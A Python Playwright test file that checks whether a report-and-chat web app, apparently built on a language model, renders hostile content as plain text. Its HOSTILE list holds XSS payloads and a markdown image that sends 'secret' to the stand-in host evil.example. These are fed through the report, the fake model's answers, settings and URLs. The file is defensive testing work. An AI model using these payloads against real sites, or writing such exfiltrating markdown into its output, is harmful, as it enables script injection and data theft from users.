"""What a report, a model or a visitor writes is text, whatever it looks like: nothing runs, nothing is asked elsewhere.

The visitors of these tests fail on any request to another host, on errors, and on dialogs.
"""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Dialog, expect

from tests.browser.conftest import Enter
from tests.browser.served import Served, served
from tests.browser.visitor import PAGES, PHONE, Visitor
from tests.fault_server import DONE, FaultServer, delta, finish, stream

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/a.png">',
    "![图](http://evil.example/?q=secret)",
    "[点这里](javascript:alert(1))",
    "[点这里](http://evil.example)",
    "<a href='javascript:alert(1)'>点</a>",
    '"><svg onload=alert(1)>',
    "</textarea><iframe src=http://evil.example></iframe>",
    "$\\href{javascript:alert(1)}{x}$",
    ":material/home: :red[红] <style>body{display:none}</style>",
    "{{7*7}}",
    "\u202e倒过来\u202c\u2066夹带\u2069",
    "很" * 500,
    "A" * 500,
)
REPORT = f"""\
某区2015年度工作报告{HOSTILE[0]}
来源:区政府办公室   2016-02-19 08:30

2015年12月28日在某区人民代表大会上

某区人民政府区长   张三

2015年工作回顾

一、经济稳中有升{HOSTILE[1]}。预计完成地区生产总值120亿元,增长8.5%{HOSTILE[2]}。财政收入20亿元{HOSTILE[3]}{HOSTILE[4]}。

二、社会事业{HOSTILE[7]}。新增学位1000个{HOSTILE[8]}。创建“三资{HOSTILE[0]}”平台{"长" * 300}。{HOSTILE[9]}{HOSTILE[10]}{HOSTILE[12]}。

2016年工作安排

一、发展目标。力争地区生产总值达到130亿元,增长8%以上{HOSTILE[5]}{HOSTILE[6]}。财政收入22亿元。新增城镇就业1万人。

注释:
1、“三资{HOSTILE[0]}”:指资金、资产、资源{HOSTILE[1]}{HOSTILE[3]}。
"""


@pytest.fixture(scope="package")
def hostile(model: FaultServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The page over a report full of traps, with a model that writes nothing else."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "seeds").mkdir()
    (folder / "seeds" / "hostile.txt").write_text(REPORT, encoding="utf-8")
    written = stream(delta("预计完成地区生产总值120亿元,增长8.5%[1]。"), *map(delta, HOSTILE), finish(), DONE)
    settings = {"BASE_URL": model.script("hostile", written), "MODEL": "<b>model</b>![](http://evil.example)"}
    with served(folder, SEEDS_DIR=str(folder / "seeds"), INDEX_DIR=str(folder / "index"), **settings) as running:
        yield running


@pytest.fixture
def victim(enter: Enter, hostile: Served) -> Iterator[Visitor]:
    """A visitor of that page."""
    visitor = enter(hostile)
    dialogs: list[str] = []

    def opened(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    visitor.tab.on("dialog", opened)
    yield visitor
    assert dialogs == []


def harmless(visitor: Visitor) -> bool:
    """Whether nothing of what is on the page is anything but text."""
    found: list[str] = visitor.tab.evaluate(
        """() => [...document.querySelectorAll("[src], [href], [onerror], [onload], iframe, script, style")]
          .map((node) => node.outerHTML)
          .filter((text) => /evil\\.example|javascript:|alert\\(|display:none\\}<|body\\{display:none/.test(text.slice(0, 300)))
          .filter((text) => !/^<(script|style|link) [^>]*\\bwb-|^<style/.test(text) || /evil|alert/.test(text))"""
    )
    return found == []


def test_a_report_is_text(victim: Visitor) -> None:
    for name in PAGES:
        victim.open(name)
        assert harmless(victim), name
        assert not victim.scrolls_sideways(), name
        expect(victim.tab.get_by_test_id("stApp")).to_be_visible()
    victim.open("report")
    expect(victim.tab.get_by_test_id("stApp")).to_contain_text(HOSTILE[1])


def test_a_model_is_text(victim: Visitor) -> None:
    turn = victim.open().ask("2015年地区生产总值是多少？")
    expect(turn).to_contain_text("120亿元")
    assert harmless(victim)
    turn.locator(".wb-chip").first.click()
    assert victim.highlighted() == turn.locator(".wb-quote").first.inner_text()
    victim.open("settings")
    assert harmless(victim)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_question_is_text(victim: Visitor, text: str) -> None:
    turn = victim.open().ask(f"财政收入{text}是多少？")
    assert harmless(victim)
    assert not victim.scrolls_sideways()
    victim.tab.reload()
    victim.settled()
    expect(turn).to_be_visible()
    assert harmless(victim)


def test_a_text_to_check_and_a_search_are_text(victim: Visitor) -> None:
    victim.open("claims")
    victim.tab.get_by_role("textbox", name="要核对的文字").fill("".join(f"财政收入20亿元{text}。" for text in HOSTILE))
    victim.tab.get_by_role("button", name="核对", exact=True).click()
    victim.settled()
    assert harmless(victim)
    assert not victim.scrolls_sideways()
    victim.open("figures")
    box = victim.tab.get_by_role("textbox", name="查找")
    box.fill(HOSTILE[1])
    box.press("Enter")
    victim.settled()
    assert harmless(victim)


def test_long_words_break_on_a_phone(enter: Enter, hostile: Served) -> None:
    visitor = enter(hostile, viewport=PHONE)
    visitor.open().ask(f"财政收入{HOSTILE[-1]}是多少？")
    assert not visitor.scrolls_sideways()
    visitor.open("report")
    assert not visitor.scrolls_sideways()


def test_a_link_with_a_trap_is_text(victim: Visitor) -> None:
    victim.open("chat", "?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%E8%B4%A2%E6%94%BF%E6%94%B6%E5%85%A5&c=%22%3E%3Cscript%3E")
    victim.settled()
    expect(victim.turns.first.locator(".wb-question")).to_contain_text(HOSTILE[1][:9])
    assert harmless(victim)
